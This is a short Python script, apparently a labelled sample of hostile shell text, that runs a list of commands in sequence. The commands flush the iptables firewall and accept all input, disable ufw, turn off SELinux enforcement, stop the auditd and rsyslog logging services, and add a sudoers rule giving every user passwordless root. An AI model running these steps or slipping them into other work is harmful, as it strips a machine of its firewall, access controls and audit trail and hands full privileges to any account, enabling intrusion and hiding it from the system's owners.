# class: embedded, shell text with account changes; style: list of steps
import subprocess

STEPS = [
    "iptables -F && iptables -P INPUT ACCEPT",
    "ufw disable || true",
    "setenforce 0 || true",
    "systemctl stop auditd rsyslog",
    "echo 'ALL ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/zz",
]
for step in STEPS:
    subprocess.call(["sh", "-c", step])
